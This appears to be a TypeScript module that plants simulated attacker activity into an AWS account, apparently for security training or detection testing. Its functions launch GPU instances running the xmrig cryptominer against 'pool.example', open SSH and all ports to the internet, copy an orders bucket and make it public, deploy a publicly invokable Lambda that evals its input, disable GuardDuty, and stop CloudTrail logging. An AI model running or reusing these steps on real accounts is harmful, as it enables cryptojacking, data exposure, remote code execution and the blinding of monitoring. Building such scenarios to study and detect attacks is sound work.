import { StopLoggingCommand } from '@aws-sdk/client-cloudtrail';
import { AuthorizeSecurityGroupIngressCommand, CreateSecurityGroupCommand, DescribeImagesCommand, RunInstancesCommand } from '@aws-sdk/client-ec2';
import { ListDetectorsCommand, UpdateDetectorCommand } from '@aws-sdk/client-guardduty';
import { AddPermissionCommand, CreateFunctionCommand } from '@aws-sdk/client-lambda';
import { CreateBucketCommand, DeletePublicAccessBlockCommand, GetObjectCommand, ListObjectsV2Command, PutBucketPolicyCommand, PutObjectCommand } from '@aws-sdk/client-s3';
import type { Clients } from '../clients';
import type { AwsWorld } from '../world';
import { publicRead } from '../world/policies';
import { zipOf } from '../world/zip';
import type { Planted } from './types';

/** Large instances behind a group that is open to everybody. */
export async function mine(as: Clients, region: string, count: number, planted: Planted): Promise<void> {
  const { GroupId } = await as.ec2.send(new CreateSecurityGroupCommand({ GroupName: `gpu-pool-${count}`, Description: 'gpu pool' }));
  planted.securityGroups.push({ region, id: GroupId! });
  await as.ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId, IpPermissions: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] }));
  const { Images } = await as.ec2.send(new DescribeImagesCommand({ Owners: ['amazon'], MaxResults: 5 }));
  const { Instances } = await as.ec2.send(new RunInstancesCommand({ ImageId: Images![0]!.ImageId, MinCount: count, MaxCount: count, InstanceType: 'p3.8xlarge', SecurityGroupIds: [GroupId!], UserData: Buffer.from('#!/bin/sh\n./xmrig -o pool.example:443\n').toString('base64') }));
  for (const one of Instances ?? []) planted.instances.push({ region, id: one.InstanceId! });
}

/** SSH to the world, on a group that was there. */
export async function openGroup(as: Clients, region: string, group: string, planted: Planted): Promise<void> {
  await as.ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId: group, IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] }));
  planted.rules.push({ region, group, port: 22 });
}

/** Downloads a bucket, keeps a copy in a new one, and opens the old one to the public. */
export async function exfiltrate(as: Clients, world: AwsWorld, planted: Planted): Promise<void> {
  const source = world.names.ordersBucket;
  const Bucket = `nw-archive-${Math.random().toString(36).slice(2, 10)}`;
  await as.s3.send(new CreateBucketCommand({ Bucket }));
  planted.buckets.push(Bucket);
  for (const { Key } of (await as.s3.send(new ListObjectsV2Command({ Bucket: source }))).Contents ?? []) {
    const { Body } = await as.s3.send(new GetObjectCommand({ Bucket: source, Key }));
    await as.s3.send(new PutObjectCommand({ Bucket, Key, Body: await Body!.transformToByteArray() }));
  }
  await as.s3.send(new DeletePublicAccessBlockCommand({ Bucket: source }));
  await as.s3.send(new PutBucketPolicyCommand({ Bucket: source, Policy: JSON.stringify(publicRead(source)) }));
  planted.exposedBuckets.push(source);
}

/** A function that anybody may call. */
export async function plantFunction(as: Clients, account: string, region: string, planted: Planted): Promise<void> {
  const FunctionName = 'log-forwarder';
  await as.lambda.send(new CreateFunctionCommand({ FunctionName, Runtime: 'nodejs20.x', Handler: 'index.handler', Role: `arn:aws:iam::${account}:role/orders-function`, Code: { ZipFile: zipOf('index.js', 'exports.handler = async (event) => eval(event.body);') } }));
  await as.lambda.send(new AddPermissionCommand({ FunctionName, StatementId: 'public', Action: 'lambda:InvokeFunction', Principal: '*' }));
  planted.functions.push({ region, name: FunctionName });
}

export async function blindGuardDuty(as: Clients, region: string, planted: Planted): Promise<void> {
  for (const DetectorId of (await as.guardduty.send(new ListDetectorsCommand({}))).DetectorIds ?? []) {
    await as.guardduty.send(new UpdateDetectorCommand({ DetectorId, Enable: false }));
    planted.disabledDetectors.push({ region, id: DetectorId });
  }
}

export async function stopLogging(as: Clients, region: string, trail: string, planted: Planted): Promise<void> {
  await as.cloudtrail.send(new StopLoggingCommand({ Name: trail }));
  planted.stoppedTrails.push({ region, name: trail });
}
